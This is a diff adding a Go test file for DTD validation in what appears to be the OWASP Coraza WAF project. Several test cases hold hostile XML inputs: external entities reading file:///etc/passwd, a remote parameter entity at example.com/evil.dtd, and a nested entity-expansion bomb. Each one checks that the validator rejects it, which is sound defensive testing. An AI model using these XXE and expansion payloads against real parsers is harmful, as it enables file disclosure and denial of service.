@@ -0,0 +1,200 @@
+// Copyright 2024 Juan Pablo Tosso and the OWASP Coraza contributors
+// SPDX-License-Identifier: Apache-2.0
+
+package xmlvalidate
+
+import (
+	"strings"
+	"testing"
+)
+
+const noteDTD = `<?xml version="1.0" encoding="UTF-8"?>
+<!-- notes -->
+<!ENTITY % text "(#PCDATA)">
+<!ENTITY % common 'id ID #IMPLIED'>
+<!ENTITY company "Coraza &#x26; co">
+<!ENTITY secret SYSTEM "file:///etc/passwd">
+<!ELEMENT note (to+, from, (heading | subject)?, body, ref*)>
+<!ATTLIST note %common;
+               priority (low|normal|high) "normal"
+               version CDATA #FIXED "1.0">
+<!ELEMENT to %text;>
+<!ELEMENT from %text;>
+<!ELEMENT heading %text;>
+<!ELEMENT subject %text;>
+<!ELEMENT body (#PCDATA | b | i)*>
+<!ELEMENT b (#PCDATA)>
+<!ELEMENT i (#PCDATA)>
+<!ELEMENT ref EMPTY>
+<!ATTLIST ref target IDREF #REQUIRED
+              tags NMTOKENS #IMPLIED>
+`
+
+func TestDTDValidate(t *testing.T) {
+	dtd, err := NewDTD([]byte(noteDTD))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name string
+		doc  string
+		err  string
+	}{
+		{
+			name: "valid",
+			doc: `<?xml version="1.0"?>
+<!DOCTYPE note SYSTEM "note.dtd">
+<note id="n1" priority="high" version="1.0">
+  <to>Tove</to><to>Jani</to>
+  <from>&company;</from>
+  <subject>Reminder</subject>
+  <body>Don't <b>forget</b> me <i>this</i> weekend</body>
+  <ref target="n1" tags="a b"/>
+</note>`,
+		},
+		{
+			name: "minimal",
+			doc:  `<note><to>a</to><from>b</from><body/></note>`,
+		},
+		{
+			name: "namespace declarations",
+			doc:  `<note xmlns="urn:notes" xmlns:x="urn:x"><to>a</to><from>b</from><body/></note>`,
+		},
+		{
+			name: "undeclared element",
+			doc:  `<note><to>a</to><from>b</from><body/><script/></note>`,
+			err:  "unexpected element script",
+		},
+		{
+			name: "undeclared root",
+			doc:  `<memo/>`,
+			err:  "no declaration for element memo",
+		},
+		{
+			name: "missing element",
+			doc:  `<note><to>a</to><body/></note>`,
+			err:  "unexpected element body",
+		},
+		{
+			name: "incomplete",
+			doc:  `<note><to>a</to><from>b</from></note>`,
+			err:  "missing child elements",
+		},
+		{
+			name: "choice",
+			doc:  `<note><to>a</to><from>b</from><heading/><subject/><body/></note>`,
+			err:  "unexpected element subject",
+		},
+		{
+			name: "mixed content",
+			doc:  `<note><to>a</to><from>b</from><body>x<to>y</to></body></note>`,
+			err:  "element to is not allowed in element body",
+		},
+		{
+			name: "text in element content",
+			doc:  `<note>text<to>a</to><from>b</from><body/></note>`,
+			err:  "cannot have character content",
+		},
+		{
+			name: "children in text only element",
+			doc:  `<note><to><b>a</b></to><from>b</from><body/></note>`,
+			err:  "element b is not allowed in element to",
+		},
+		{
+			name: "not empty",
+			doc:  `<note id="n1"><to>a</to><from>b</from><body/><ref target="n1">x</ref></note>`,
+			err:  "element ref must be empty",
+		},
+		{
+			name: "enumeration",
+			doc:  `<note priority="urgent"><to>a</to><from>b</from><body/></note>`,
+			err:  `"urgent" is not an allowed value`,
+		},
+		{
+			name: "fixed",
+			doc:  `<note version="2.0"><to>a</to><from>b</from><body/></note>`,
+			err:  `attribute version of element note must be "1.0"`,
+		},
+		{
+			name: "undeclared attribute",
+			doc:  `<note onload="x"><to>a</to><from>b</from><body/></note>`,
+			err:  "no declaration for attribute onload of element note",
+		},
+		{
+			name: "required attribute",
+			doc:  `<note><to>a</to><from>b</from><body/><ref/></note>`,
+			err:  "missing required attribute target in element ref",
+		},
+		{
+			name: "dangling IDREF",
+			doc:  `<note id="n1"><to>a</to><from>b</from><body/><ref target="n2"/></note>`,
+			err:  `IDREF "n2" of element ref does not match any ID`,
+		},
+		{
+			name: "invalid NMTOKENS",
+			doc:  `<note id="n1"><to>a</to><from>b</from><body/><ref target="n1" tags="a;b"/></note>`,
+			err:  "is not a valid NMTOKENS",
+		},
+		{
+			name: "external entity",
+			doc:  `<note><to>&secret;</to><from>b</from><body/></note>`,
+			err:  "invalid character entity &secret;",
+		},
+		{
+			name: "internal subset is ignored",
+			doc:  `<!DOCTYPE note [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><note><to>&xxe;</to><from>b</from><body/></note>`,
+			err:  "invalid character entity &xxe;",
+		},
+		{
+			name: "unbalanced",
+			doc:  `<note><to>a</from></note>`,
+			err:  "element to closed by from",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := dtd.Validate(strings.NewReader(tt.doc))
+			if tt.err == "" {
+				if err != nil {
+					t.Fatalf("unexpected error: %s", err.Error())
+				}
+				return
+			}
+			if err == nil {
+				t.Fatalf("expected error %q", tt.err)
+			}
+			if !strings.Contains(err.Error(), tt.err) {
+				t.Errorf("unexpected error %q, want %q", err.Error(), tt.err)
+			}
+		})
+	}
+}
+
+func TestDTDErrors(t *testing.T) {
+	tests := map[string]string{
+		`<!ENTITY % ext SYSTEM "http://example.com/evil.dtd"> %ext;`: "external entities are disabled",
+		`<!ELEMENT a (%undefined;)>`:                                 "undeclared parameter entity undefined",
+		`<![INCLUDE[ <!ELEMENT a EMPTY> ]]>`:                         "conditional sections are not supported",
+		`<!ELEMENT a EMPTY><!ELEMENT a ANY>`:                         "element a declared twice",
+		`<!ELEMENT a (b, c | d)>`:                                    "invalid separator",
+		`<!ELEMENT a (#PCDATA | b)>`:                                 "must be repeatable",
+		`<!ATTLIST a b WRONG #IMPLIED>`:                              `invalid type "WRONG"`,
+		`<!ELEMENT a EMPTY`:                                          "unterminated declaration",
+		"<!ELEMENT a EMPTY>\n<!FOO>":                                 "line 2: unknown declaration",
+		// each level multiplies the expansion by 10
+		`<!ENTITY % a "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx">
+<!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;%a;%a;">
+<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;%b;%b;">
+<!ENTITY % d "%c;%c;%c;%c;%c;%c;%c;%c;%c;%c;">
+<!ENTITY % e "%d;%d;%d;%d;%d;%d;%d;%d;%d;%d;">
+<!ENTITY % f "%e;%e;%e;%e;%e;%e;%e;%e;%e;%e;">`: "too many entity expansions",
+	}
+	for dtd, want := range tests {
+		_, err := NewDTD([]byte(dtd))
+		if err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("unexpected error %v, want %q", err, want)
+		}
+	}
+}